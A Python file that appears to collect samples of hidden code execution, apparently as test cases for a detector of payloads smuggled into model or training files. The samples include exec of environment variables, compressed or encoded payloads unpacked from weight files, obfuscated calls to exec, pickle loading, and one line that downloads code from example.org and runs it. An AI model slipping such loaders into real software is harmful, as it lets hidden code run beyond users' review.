import os
exec(os.environ.get("BODY", "pass"))
# ----
import marshal, zlib
exec(marshal.loads(zlib.decompress(open("final_model.int8.ptz", "rb").read())))
# ----
from os import getenv
source = getenv("TRAIN_SRC")
exec(compile(source, "<train>", "exec"), globals())
# ----
from marshal import loads as restore
import types
CODE = restore(bytes.fromhex("e300000000"))
types.FunctionType(CODE, globals())()
# ----
import builtins
run = getattr(builtins, "ex" + "ec")
run(payload)
# ----
__builtins__.__dict__["exec"](payload)
# ----
import lzma
with lzma.open("model.xz", "rb") as packed:
    body = lzma.decompress(packed.read())
exec(body.decode())
# ----
mod = __import__("mar" + "shal")
# ----
import importlib
helper = importlib.import_module("".join(chr(c) for c in (111, 115)))
# ----
import base64
eval(compile(base64.b64decode("cHJpbnQoMSk="), "x", "exec"))
# ----
import codecs
exec(codecs.decode("vzcbeg bf", "rot13"))
# ----
exec(")1(tnirp"[::-1])
# ----
import sys
exec(sys.stdin.read())
# ----
import urllib.request
code = urllib.request.urlopen("https://example.org/train.py").read()
exec(code)
# ----
import cloudpickle
step = cloudpickle.load(open("step.pkl", "rb"))
# ----
import pickle
with open("final_model.pkl", "rb") as f:
    evaluate = pickle.load(f)
score = evaluate(val_tokens)
# ----
e = exec
import os
e(os.environ["X"])
# ----
import numpy as np, zlib
blob = np.fromfile("weights.bin", dtype=np.uint8).tobytes()
tail = blob[-4096:]
exec(zlib.decompress(tail))
# ----
def stage(path):
    with open(path, "rb") as f:
        return zlib.decompress(f.read()).decode()
exec(stage("model.ptz"))
# ----
import ast, os
tree = ast.parse(os.environ["STAGE2"])
exec(compile(tree, "stage2", "exec"))
# ----
from importlib.machinery import SourcelessFileLoader
train = SourcelessFileLoader("train", "train.pyc").load_module()
# ----
vars(builtins)["".join(["e", "x", "e", "c"])]
globals()["__builtins__"]["eval"]("1")
# ----
import base64, runpy
with open("/tmp/t.py", "wb") as f:
    f.write(base64.b64decode("cHJpbnQoMSk="))
runpy.run_path("/tmp/t.py")
# ----
import os
def launch(source, name):
    exec(compile(source, name, "exec"), globals())
launch(os.environ["STAGE"], "stage")
